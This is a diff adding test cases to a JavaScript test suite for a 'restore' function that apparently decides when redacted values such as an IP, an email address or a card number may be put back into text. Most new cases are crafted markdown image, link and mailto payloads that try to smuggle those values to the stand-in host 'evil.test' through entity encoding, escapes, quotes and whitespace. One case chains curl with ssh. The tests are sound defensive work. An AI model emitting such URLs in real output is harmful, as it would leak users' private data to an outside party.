@@ -189,6 +189,11 @@ describe('URLs of the request', () => {
     'http://{IP}:8080/other',
     '[x](http://{IP}:8080)',
     "fetch('http://{IP}:8080')",
+    '"http://{IP}:8080", "@scope/name"',
+    '`http://{IP}:8080`. Next',
+    '<http://{IP}:8080>',
+    '[x](<http://{IP}:8080/a b> "title")',
+    'curl http://{IP}:8080 && ssh me@host',
     'https://x.example/?q={MAIL}',
     'https://x.example/?q={MAIL}&page=2',
     'https://{MAIL}@h.example/b',
@@ -204,10 +209,39 @@ describe('URLs of the request', () => {
     '![x](http://{IP}:8080.evil.test/)',
     '![x](http://{IP}:80)',
     '![x](http://{IP}:8080)@evil.test/',
+    '![x](http://{IP}:8080&#64;evil.test/)',
+    '![x](http://{IP}:8080&#x40;evil.test/)',
+    '![x](http://{IP}:8080&commat;evil.test/)',
+    '![x](http://{IP}:8080&#46;evil.test/)',
+    '![x](http://{IP}:8080\\@evil.test/)',
+    '![x](http://{IP}:8080\\.evil.test/)',
+    '![x](http://{IP}:8080"@evil.test/)',
+    '![x](http://{IP}:8080`@evil.test/)',
+    '![x](http://{IP}:8080>@evil.test/)',
+    '![x](http://{IP}:8080"&#64;evil.test/)',
+    '![x](<http://{IP}:8080 a@evil.test/>)',
+    '<a href="http://{IP}:8080 a@evil.test/">x</a>',
+    '<http://{IP}:8080\t.evil.test/>',
+    '<http://{IP}:8080 @evil.test/>',
+    'curl "http://{IP}:8080"@evil.test/',
+    '<a href="mailto:{MAIL}?body={CARD}&bcc=evil&#x40 evil.test">x</a>',
+    '[x](<mailto:{MAIL}?body={CARD}&bcc= a@evil.test>)',
     '![x](https://{MAIL}@evil.test/)',
     '![x](https://x.example.evil.test/?q={MAIL})',
   ])('withholds the value in %s', (text) => {
     expect(restore(text, {}, request)).toMatch(/_\d/);
+  });
+
+  it.each([
+    'http://{IP}:8080\t@evil.test/',
+    'http://{IP}:8080\n.evil.test/',
+    'http://{IP}:8080 @evil.test/',
+    'http://{IP}:8080 a@evil.test/',
+    'http://{IP}:8080"@evil.test/',
+    'http://{IP}:8080<@evil.test/',
+    'http://{IP}:8080\\@evil.test/',
+  ])('withholds the value in the member "url": %j', (url) => {
+    expect(restore(JSON.stringify({ url }), { format: 'json' }, request)).toMatch(/_\d/);
   });
 });
 
